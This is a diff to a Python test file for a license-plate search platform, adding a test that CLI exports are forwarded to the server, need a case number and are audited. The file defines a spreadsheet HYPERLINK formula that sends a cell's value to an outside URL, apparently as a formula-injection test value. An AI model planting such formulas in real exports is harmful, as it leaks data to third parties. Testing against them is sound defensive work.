@@ -37,10 +37,12 @@ from plateledger_verify import merkle
 from plateledger_verify.note import b64
 from plateledger_verify.policy import parse_policy
 from plateledger_verify.proof import parse_proof, verify_proof
+from tests.integration.test_one_door import server
 from tests.integration.test_web import BASE, actions, csrf_of, sign_in
 from tests.integration.web_kit import PLATE, WebNetwork, plate_crop, web_network
-from tests.support import HOUR_MS, NOW_MS, CameraSpec, ingest, read, search, seed_agency
+from tests.support import HOUR_MS, NOW_MS, AgencyKit, CameraSpec, ingest, read, search, seed_agency
 
+__all__ = ["server"]  # the fixture of a server holding the data directory
 CASE = "C-2026-0099"
 FORMULA = '=HYPERLINK("https://example.com/?"&A1,"open")'
 FORMATS = ("csv", "geojson", "kml", "pdf")
@@ -310,3 +312,24 @@ def test_web_export_refused_answers_with_a_message_and_is_audited(platform: Plat
     unknown = client.post("/ui/search/export.xlsx", data=values)
     assert unknown.status_code == 422
     assert "format" in unknown.text
+
+
+def test_cli_forwarding_to_the_server_gets_the_same_file_and_refusals(
+    settings: Settings, server: tuple[Platform, AgencyKit], tmp_path: Path
+) -> None:
+    """With a server holding the data directory, ``--format`` asks the API's export and writes its bytes."""
+    platform, kit = server
+    ingest(platform, kit, [read(PLATE, camera="bay-pd-fixed", ts=platform.clock.now_ms() - HOUR_MS)])
+    base = ["search", "plate", PLATE, "--token", kit.tokens["investigator"], "--purpose", "stolen_vehicle",
+            "--data", str(settings.data)]  # fmt: skip
+    out = tmp_path / "forwarded.kml"
+    done = CliRunner().invoke(cli, [*base, "--case", CASE, "--format", "kml", "--out", str(out)])
+    assert done.exit_code == 0, done.output
+    kml = ET.fromstring(out.read_bytes())
+    assert len(kml.findall("k:Document/k:Placemark", {"k": "http://www.opengis.net/kml/2.2"})) == 1
+    assert actions(platform)[-2:] == ["search.plate", "search.exported"]
+    refused = CliRunner().invoke(cli, [*base, "--format", "pdf", "--out", str(tmp_path / "no.pdf")])
+    assert isinstance(refused.exception, FieldInvalid)
+    assert refused.exception.field == "case_number"
+    assert not (tmp_path / "no.pdf").exists()
+    assert actions(platform)[-1] == "search.refused"
